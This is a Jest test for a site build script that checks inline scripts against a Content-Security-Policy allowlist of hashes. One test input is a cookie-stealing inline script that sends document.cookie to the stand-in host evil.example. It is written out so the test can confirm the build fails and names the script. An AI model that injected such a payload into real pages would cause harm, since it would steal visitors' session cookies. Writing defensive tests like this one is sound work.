/** @jest-environment node */
import { spawnSync } from "node:child_process";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { DATES_SCRIPT } from "@/lib/dates-script";

// scripts/security-headers.mjs allows the site's own inline scripts by hash; any other (a template that wrote one by
// mistake) stops the build instead of being allowed. Run as the build runs it, on a small export of its own.

const ROOT = path.resolve(__dirname, "..");

function headersOn(scripts: string[]) {
  const out = fs.mkdtempSync(path.join(os.tmpdir(), "inline-scripts-"));
  fs.mkdirSync(path.join(out, "admin"));
  fs.writeFileSync(path.join(out, "admin", "config.yml"), "");
  fs.writeFileSync(
    path.join(out, "index.html"),
    `<!DOCTYPE html><html><head><meta charSet="utf-8"/></head><body>${scripts.map((text) => `<script>${text}</script>`).join("")}</body></html>`,
  );
  const run = spawnSync(
    path.join(ROOT, "node_modules", ".bin", "tsx"),
    [path.join(ROOT, "scripts", "security-headers.mjs")],
    { cwd: ROOT, env: { ...process.env, OUT_DIR: out }, encoding: "utf8" },
  );
  const headers = fs.existsSync(path.join(out, "_headers")) ? fs.readFileSync(path.join(out, "_headers"), "utf8") : "";
  fs.rmSync(out, { recursive: true, force: true });
  return { status: run.status, stderr: run.stderr, headers };
}

test("the site's own inline script is allowed; any other stops the build, naming it", () => {
  const own = headersOn([DATES_SCRIPT]);
  expect(own.status).toBe(0);
  // The content manager's files beside its page get the file policy too.
  expect(own.headers).toMatch(
    /^\/admin\/config\.yml\n {2}! Content-Security-Policy\n {2}Content-Security-Policy: default-src 'none'/m,
  );

  const other = headersOn([DATES_SCRIPT, "fetch('https://evil.example/?'+document.cookie)"]);
  expect(other.status).not.toBe(0);
  expect(other.stderr).toContain("an inline script that is not the site's own");
  expect(other.stderr).toContain("evil.example");
  expect(other.headers).toBe("");
});
